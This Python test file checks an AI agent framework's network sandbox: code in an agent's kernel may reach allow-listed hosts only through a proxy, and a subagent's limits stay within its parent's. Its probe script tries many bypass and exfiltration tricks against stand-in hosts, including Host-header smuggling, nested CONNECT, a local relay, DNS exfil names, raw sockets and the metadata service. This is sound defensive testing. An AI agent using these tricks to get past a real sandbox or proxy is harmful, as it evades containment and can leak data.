"""Network by host: a kernel reaches the listed hosts through the host's proxy, and nothing else, however it tries.

One agent tree, its main agent under a profile listing `ok.test`, `*.ok.test`, `pypi.test` and `127.0.0.1` (the
test servers' address), runs the probe cell in its kernel (launched); its child, whose type asks for `ok.test`
and `evil.test`, runs it in a forked kernel: the child gets only what both allow. Names resolve through the
test's resolver (`net_lab`); `evil.test` is a real server too, so a probe that got through would show there.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from freeact_sub import Agent, AgentConfig, AgentType, CodeExecutionOutput, SubagentStarted
from freeact_sub.sandbox import platform_problem
from tests.scripting import Call, Router, Script, drive, of
from tests.security.net_lab import NetLab, net_lab

pytestmark = pytest.mark.skipif(platform_problem() is not None, reason=f"no sandbox here: {platform_problem()}")

HOSTS = ["ok.test", "*.ok.test", "pypi.test", "127.0.0.1"]
CHILD_HOSTS = ["ok.test", "evil.test", "127.0.0.1"]

PROBES = r'''
import json, os, socket, subprocess, sys, threading, urllib.request, urllib.error
lab = json.loads(LAB_JSON)
ports = lab["ports"]
results = {}

def attempt(name, action):
    try:
        results[name] = str(action())[:300]
    except urllib.error.HTTPError as exc:
        results[name] = f"HTTP {exc.code}"
    except Exception as exc:
        results[name] = f"{type(exc).__name__}: {exc}"[:300]

def via_proxy(raw, port=3128):
    with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
        conn.sendall(raw)
        data = b""
        while chunk := conn.recv(65536):
            data += chunk
        return data.decode("latin-1")

def status(text):
    return text.split("\r\n", 1)[0]

def tunnel(host, port, inner):
    with socket.create_connection(("127.0.0.1", 3128), timeout=10) as conn:
        conn.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
        head = conn.recv(4096).decode("latin-1")
        if not head.startswith("HTTP/1.1 200"):
            return status(head)
        conn.sendall(inner)
        data = b""
        while chunk := conn.recv(65536):
            data += chunk
        return "tunnel: " + data.decode("latin-1").rsplit("\r\n\r\n", 1)[-1]

def relay(listen_port):
    # a relay the cell runs: what it receives goes on to the proxy, byte for byte
    server = socket.create_server(("127.0.0.1", listen_port))
    def serve():
        client, _ = server.accept()
        upstream = socket.create_connection(("127.0.0.1", 3128))
        def pump(a, b):
            while data := a.recv(65536):
                b.sendall(data)
            b.shutdown(socket.SHUT_WR)
        threading.Thread(target=pump, args=(client, upstream), daemon=True).start()
        pump(upstream, client)
    threading.Thread(target=serve, daemon=True).start()

ok, evil, pypi = ports["ok.test"], ports["evil.test"], ports["pypi.test"]
attempt("proxy_variables", lambda: os.environ.get("HTTPS_PROXY"))
attempt("urllib_allowed", lambda: urllib.request.urlopen(f"http://ok.test:{ok}/", timeout=10).read().decode())
def with_requests():
    import requests
    return requests.get(f"http://ok.test:{ok}/r", timeout=10).text
attempt("requests_allowed", with_requests)
def with_httpx():
    import httpx
    return httpx.get(f"http://ok.test:{ok}/x", timeout=10).text
attempt("httpx_allowed", with_httpx)
attempt("connect_allowed",
        lambda: tunnel("ok.test", ok, b"GET /t HTTP/1.1\r\nHost: ok.test\r\nConnection: close\r\n\r\n"))
def pip_download():
    done = subprocess.run([sys.executable, "-m", "pip", "download", "--no-deps", "--no-cache-dir", "-q",
                           "--disable-pip-version-check", "--index-url", f"http://pypi.test:{pypi}/simple/",
                           "--trusted-host", "pypi.test", "-d", os.path.join(os.environ["TMPDIR"], "dl"), "tinypkg"],
                          capture_output=True, text=True, timeout=120)
    return f"exit {done.returncode}: " + " ".join(sorted(os.listdir(os.path.join(os.environ["TMPDIR"], "dl")))
                                          if done.returncode == 0 else done.stderr[-200:])
attempt("pip_download", pip_download)
attempt("urllib_denied", lambda: urllib.request.urlopen(f"http://evil.test:{evil}/", timeout=10).read().decode())
attempt("connect_denied", lambda: tunnel("evil.test", evil, b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"))
attempt("ip_literal_public", lambda: tunnel("203.0.113.7", 443, b""))
attempt("ip_literal_loopback", lambda: tunnel("127.0.0.2", evil, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"))
attempt("ip_literal_bracketed", lambda: tunnel("[::1]", evil, b""))
attempt("private_address", lambda: tunnel("inner.ok.test", 80, b""))
attempt("metadata_service", lambda: status(via_proxy(b"GET http://169.254.169.254/latest/ HTTP/1.1\r\n\r\n")))
attempt("connect_host_header_mismatch",
        lambda: tunnel("evil.test", evil, b"") + " / " + status(via_proxy(
            f"CONNECT evil.test:{evil} HTTP/1.1\r\nHost: ok.test:{ok}\r\n\r\n".encode())))
attempt("http_host_header_smuggle", lambda: via_proxy(
    f"GET http://ok.test:{ok}/h HTTP/1.1\r\nHost: evil.test:{evil}\r\n\r\n".encode()).rsplit("\r\n\r\n", 1)[-1])
attempt("pipelined_second_host", lambda: via_proxy(
    (f"GET http://ok.test:{ok}/p1 HTTP/1.1\r\nHost: ok.test\r\nConnection: keep-alive\r\n\r\n"
     f"GET http://evil.test:{evil}/p2 HTTP/1.1\r\nHost: evil.test\r\n\r\n").encode()).count("HTTP/1."))
attempt("nested_connect", lambda: tunnel("ok.test", ok,
        f"CONNECT evil.test:{evil} HTTP/1.1\r\nHost: evil.test\r\n\r\n".encode())[:60])
attempt("userinfo_trick", lambda: status(via_proxy(
    f"GET http://ok.test@evil.test:{evil}/ HTTP/1.1\r\n\r\n".encode())))
attempt("suffix_trick", lambda: tunnel(f"ok.test.evil.test", evil, b""))
def relayed():
    relay(4000)
    import time; time.sleep(0.1)
    return tunnel_port(4000, f"CONNECT evil.test:{evil} HTTP/1.1\r\nHost: ok.test\r\n\r\n".encode())
def tunnel_port(port, raw):
    return status(via_proxy(raw, port))
attempt("relayed_connect", relayed)
attempt("origin_form", lambda: status(via_proxy(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")))
attempt("socks5", lambda: repr(via_proxy(b"\x05\x01\x00")[:12]))
attempt("https_absolute_form", lambda: status(via_proxy(f"GET https://evil.test:{evil}/ HTTP/1.1\r\n\r\n".encode())))
attempt("dns_lookup", lambda: socket.getaddrinfo("secret-4711.exfil.test", 80))
attempt("dns_udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"\x00" * 30, ("8.8.8.8", 53)))
attempt("dns_via_proxy", lambda: tunnel("secret-4712.exfil.test", 53, b""))
attempt("direct_tcp_host_loopback", lambda: socket.create_connection(("127.0.0.1", evil), timeout=3))
attempt("direct_tcp_outside", lambda: socket.create_connection(("1.1.1.1", 443), timeout=3))
attempt("raw_socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet_socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("ipv6_outside", lambda: socket.create_connection(("2606:4700:4700::1111", 443), timeout=3))
print("NET" + json.dumps(results))
'''


AFTER_RESTART = "import urllib.request\nprint(urllib.request.urlopen('http://ok.test:{port}/again').read().decode())"
"""A restarted kernel has a new network namespace: it hands its new listening socket over, and works as before."""


def _probes(lab: NetLab) -> str:
    return PROBES.replace("LAB_JSON", repr(json.dumps(lab.parameters())))


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def probed(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[tuple[NetLab, dict[str, Any]]]:
    work = tmp_path_factory.mktemp("net")
    with net_lab() as lab:
        code = _probes(lab)
        again = AFTER_RESTART.format(port=lab.servers["ok.test"].port)
        router = Router({
            "MAIN": Script([Call("execute_ipython_cell", {"code": code}, id="m1")],
                           [Call("task", {"prompt": "CHILD probe", "subagent_type": "narrow"}, id="t1")],
                           ["main done"]),
            "CHILD": Script([Call("execute_ipython_cell", {"code": code}, id="c1")],
                            [Call("reset_kernel", {}, id="c2")],
                            [Call("execute_ipython_cell", {"code": again}, id="c3")],
                            ["child done"]),
        })
        config = AgentConfig(
            model=router.model, working_dir=work, auto_approve=True, kernel_pool_size=1, execution_timeout=120,
            sandbox={"name": "net-test", "network": HOSTS},
            agents={"narrow": AgentType(description="narrow", sandbox={"name": "narrow",
                                                                             "network": CHILD_HOSTS})},
        )
        async with Agent(config) as agent:
            events = await drive(agent.stream("MAIN probe"))
            main_id = agent.agent_id
        found: dict[str, Any] = {"texts": {}, "started": of(SubagentStarted, events)}
        for output in of(CodeExecutionOutput, events):
            kind = "main" if output.agent_id == main_id else "child"
            if output.tool_call_id == "c3":
                found["after_restart"] = output.text
                continue
            found["texts"][kind] = output.text
            for line in output.text.splitlines():
                if line.startswith("NET"):
                    found[kind] = json.loads(line.removeprefix("NET"))
        yield lab, found


def _refused(result: str) -> bool:
    return result.startswith(("HTTP 403", "HTTP/1.1 403", "HTTP/1.1 405", "HTTP/1.1 400")) or "403" in result[:20]


def test_allowed_hosts_work_through_urllib_requests_connect_and_pip(probed: tuple[NetLab, dict[str, Any]]) -> None:
    lab, found = probed
    main = found["main"]
    assert main["proxy_variables"] == "http://127.0.0.1:3128"
    assert main["urllib_allowed"].startswith("ok.test says hello to ok.test")
    assert main["requests_allowed"].startswith(("ok.test says hello", "ModuleNotFoundError"))  # if installed
    assert main["httpx_allowed"].startswith("ok.test says hello")
    assert main["connect_allowed"].startswith("tunnel: ok.test says hello")
    assert main["pip_download"] == "exit 0: tinypkg-0.1-py3-none-any.whl"
    assert any("/files/tinypkg" in hit for hit in lab.servers["pypi.test"].hits)
    assert found["child"]["urllib_allowed"].startswith("ok.test says hello")  # forked kernel, same proxy


@pytest.mark.parametrize("probe", ["urllib_denied", "connect_denied", "ip_literal_public", "ip_literal_loopback",
                                   "ip_literal_bracketed", "private_address", "metadata_service", "relayed_connect",
                                   "origin_form", "https_absolute_form", "dns_via_proxy", "userinfo_trick",
                                   "suffix_trick"])
def test_what_the_profile_does_not_list_is_refused_by_the_proxy(probed: tuple[NetLab, dict[str, Any]],
                                                                probe: str) -> None:
    _, found = probed
    for kind in ("main", "child"):
        assert _refused(found[kind][probe]), (kind, probe, found[kind][probe])


def test_nothing_reached_the_server_of_a_host_not_listed(probed: tuple[NetLab, dict[str, Any]]) -> None:
    lab, found = probed
    assert lab.servers["evil.test"].hits == []
    main = found["main"]
    # a Host header naming another host changes nothing: the checked host is the one reached, and told so
    assert main["http_host_header_smuggle"] == f"ok.test says hello to ok.test:{lab.servers['ok.test'].port}"
    assert _refused(main["connect_host_header_mismatch"].split(" / ")[0])
    assert main["pipelined_second_host"] in ("1", "2")  # the second request went to ok.test's server, if anywhere
    assert main["nested_connect"].startswith("tunnel: ")  # ok.test's server got it, not evil.test's


def test_no_way_around_the_proxy_and_no_name_leaks_out(probed: tuple[NetLab, dict[str, Any]]) -> None:
    lab, found = probed
    for kind in ("main", "child"):
        result = found[kind]
        assert result["dns_lookup"].startswith("gaierror"), result["dns_lookup"]
        assert "Network is unreachable" in result["dns_udp"]
        assert "Connection refused" in result["direct_tcp_host_loopback"]  # the host's loopback is not the kernel's
        assert "Network is unreachable" in result["direct_tcp_outside"]
        assert "Network is unreachable" in result["ipv6_outside"] or "Cannot assign" in result["ipv6_outside"]
        assert "Operation not permitted" in result["raw_socket"]
        assert "Operation not permitted" in result["packet_socket"]
        assert "405" in result["socks5"] or "400" in result["socks5"]
    assert not [name for name in lab.asked if "exfil" in name or "evil" in name]  # refused names were never resolved


def test_a_refusal_reaches_the_model_with_one_sandbox_line(probed: tuple[NetLab, dict[str, Any]]) -> None:
    lab, found = probed
    evil = lab.servers["evil.test"].port
    text = found["texts"]["main"]
    assert f"[sandbox] A network connection to evil.test:{evil} was refused under the sandbox profile 'net-test': " \
           "not a host the profile allows (it allows only ok.test, *.ok.test, pypi.test, 127.0.0.1/32)." in text
    assert text.count(f"to evil.test:{evil} was refused") == 1  # one line per host, however often it was tried


def test_a_child_never_reaches_more_than_its_parent(probed: tuple[NetLab, dict[str, Any]]) -> None:
    _, found = probed
    (started,) = found["started"]
    assert started.sandbox == "narrow within net-test"
    assert started.sandbox_limits.startswith("hosts: ok.test, 127.0.0.1/32; memory ")
    child = found["child"]
    assert child["urllib_allowed"].startswith("ok.test says hello")
    assert _refused(child["urllib_denied"])  # its type asked for evil.test; its parent does not allow it
    assert _refused(child["pip_download"].replace("exit 1: ", "")) or child["pip_download"].startswith("exit 1")
    assert "under the sandbox profile 'narrow within net-test'" in found["texts"]["child"]
    assert found["after_restart"].startswith("ok.test says hello")  # after reset_kernel: a new namespace, same way out


def test_a_stdio_mcp_server_confined_to_hosts_has_no_network(tmp_path: Path) -> None:
    """An MCP server has no proxy of its own: under a host list it gets a namespace with no way out at all."""
    import subprocess
    import sys

    from freeact_sub.sandbox import confined_command, profile_from

    profile = profile_from({"name": "hosts", "network": ["ok.test", "127.0.0.1"]})
    probe = ("import socket\n"
             "for address in (('127.0.0.1', 3128), ('1.1.1.1', 443)):\n"
             "    try:\n"
             "        socket.create_connection(address, timeout=3)\n"
             "        print('reached', address)\n"
             "    except OSError as exc:\n"
             "        print(type(exc).__name__, exc.errno)\n")
    done = subprocess.run(confined_command(profile, [sys.executable, "-c", probe], tmp_path), capture_output=True,
                          text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert "reached" not in done.stdout and done.stdout.count("OSError 101") + done.stdout.count(
        "ConnectionRefusedError 111") == 2, done.stdout
